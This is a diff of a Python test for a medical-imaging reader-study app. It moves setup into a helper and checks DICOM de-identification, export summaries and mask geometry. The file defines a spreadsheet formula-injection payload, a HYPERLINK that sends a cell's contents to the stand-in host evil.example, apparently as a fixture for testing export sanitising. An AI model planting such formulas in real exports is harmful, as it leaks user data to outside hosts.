@@ -7,7 +7,6 @@ import numpy as np
 import pandas as pd
 import pydicom
 import pytest
-from pydicom.data import get_testdata_file
 
 from core.io import load_volume
 from core.types import to_display
@@ -16,6 +15,7 @@ from db.models import Arm, Role
 from db.repository import create_account, next_case, reading_list, save_read
 from db.session import make_engine, make_session_factory, session_scope
 from db.studies import create_study_from_files, export_study
+from tests.study_helpers import two_case_study
 
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
@@ -23,20 +23,8 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
 
 def test_a_study_from_files_exports_answers_summary_and_masks_on_the_scans_grid(tmp_path):
     # Two cases: a real DICOM (PHI inside) and a small anisotropic NIfTI volume.
-    data = np.random.default_rng(0).uniform(0, 100, size=(6, 5, 3)).astype(np.float32)
-    nifti = tmp_path / "vol.nii.gz"
-    nib.save(nib.Nifti1Image(data, np.diag([1.0, 2.0, 3.0, 1.0])), nifti)
-    dicom = get_testdata_file("CT_small.dcm")
-    engine = make_engine(f"sqlite:///{tmp_path / 'study.db'}")
-    upgrade(engine)
-    factory = make_session_factory(engine)
-    with session_scope(factory) as s:
-        admin = create_account(s, "admin", "admin-pass-1", Role.ADMIN)
-        ann, bob = create_account(s, "ann", "ann-password"), create_account(s, "bob", "bob-password")
-        study = create_study_from_files(s, admin, "Export check", [dicom, nifti], {ann.id: Arm.AI, bob.id: Arm.UNAIDED},
-                                        studies_dir=tmp_path / "studies")
-        study_id, cases = study.id, {c.name: c for c in study.cases}
-        ids = (admin.id, ann.id, bob.id)
+    study = two_case_study(tmp_path, "Export check", (Arm.AI, Arm.UNAIDED))
+    engine, factory, study_id, cases, ids = study.engine, study.factory, study.study_id, study.cases, study.ids
     assert [c.display_shape for c in cases.values()] == [[128, 128, 1], [5, 6, 3]]
     stored_dicom = pydicom.dcmread(cases["case-001"].scan_path)
     assert str(stored_dicom.PatientName) == "case-001"  # the original name is gone before anything is stored
@@ -76,7 +64,7 @@ def test_a_study_from_files_exports_answers_summary_and_masks_on_the_scans_grid(
     assert summary["reading_time"]["ann"]["total_seconds"] == 40.0
     mask = nib.load(paths["mask:case-002:ann"])
     volume = load_volume(cases["case-002"].scan_path)
-    assert mask.shape == data.shape and np.allclose(mask.affine, volume.affine)
+    assert mask.shape == (6, 5, 3) and np.allclose(mask.affine, volume.affine)  # the NIfTI case's own grid
     voxels = np.asarray(mask.dataobj).astype(bool)
     assert voxels.sum() == drawn.sum() and not voxels[..., [0, 1]].any()
     assert np.array_equal(to_display(voxels[..., 2]), drawn)  # the drawn pixels, back on the scan's grid
